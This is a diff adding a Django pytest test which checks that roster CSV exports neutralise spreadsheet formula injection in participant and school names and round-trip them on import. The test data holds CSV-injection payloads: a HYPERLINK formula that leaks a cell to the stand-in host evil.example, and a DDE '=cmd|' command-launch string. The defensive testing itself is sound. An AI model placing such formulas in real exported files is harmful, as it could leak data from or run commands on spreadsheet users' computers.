@@ -8,7 +8,7 @@ from django.contrib.auth import get_user_model
 from django.core.management import CommandError, call_command
 
 from convenings.models import Registration
-from people.models import Participant
+from people.models import Participant, School
 from people.roster import COLUMNS, RosterError, decode, export_roster, import_roster
 
 pytestmark = pytest.mark.django_db
@@ -143,3 +143,44 @@ def test_a_file_that_is_not_utf8_is_reported_clearly(demo, tmp_path) -> None:
     path.write_bytes(latin1.encode("latin-1"))
     with pytest.raises(CommandError, match="Nothing imported:\nline 3: the file is not UTF-8"):
         call_command("import_roster", demo.convening.slug, str(path))
+
+
+FORMULA_NAMES = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")": "", "+Ana": "Flores", "-Ben": "Ito",
+                 "@Cara": "Diaz"}
+
+
+def test_formula_names_are_exported_as_text_and_import_back_as_themselves(client, demo, capsys) -> None:
+    """The admin's roster download and the export_roster command: a spreadsheet shows such
+    names as text, and the admin's upload of that very file keeps every name as it was."""
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from django.urls import reverse
+
+    from convenings.csv_cells import FORMULA_START
+
+    people = Participant.objects.filter(registrations__convening=demo.convening).select_related("user", "school")
+    for person, (first, last) in zip(people.order_by("pk"), FORMULA_NAMES.items()):
+        get_user_model().objects.filter(pk=person.user_id).update(first_name=first, last_name=last)
+    school = people.exclude(school=None).first().school
+    school.name = "=cmd|' /C calc'!A0"
+    school.save()
+    client.force_login(get_user_model().objects.get(username="organizer"))
+    url = reverse("admin:convenings_convening_export_roster", args=[demo.convening.pk])
+
+    exported = client.get(url).content.decode()
+    call_command("export_roster", demo.convening.slug)
+    assert capsys.readouterr().out == exported  # the command writes the same file
+    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
+    for first, last in FORMULA_NAMES.items():
+        assert "'" + f"{first} {last}".strip() in cells
+    assert "'=cmd|' /C calc'!A0" in cells
+
+    upload = reverse("admin:convenings_convening_import_roster", args=[demo.convening.pk])
+    answer = client.post(upload, {"csv_file": SimpleUploadedFile("roster.csv", exported.encode())})
+    assert answer.status_code == 302, answer.content.decode()
+    names = set(get_user_model().objects.values_list("first_name", "last_name"))
+    assert set(FORMULA_NAMES.items()) <= names
+    assert not get_user_model().objects.filter(first_name__startswith="'").exists()
+    school.refresh_from_db()
+    assert school.name == "=cmd|' /C calc'!A0" and not School.objects.filter(name__startswith="'").exists()
+    assert client.get(url).content.decode() == exported
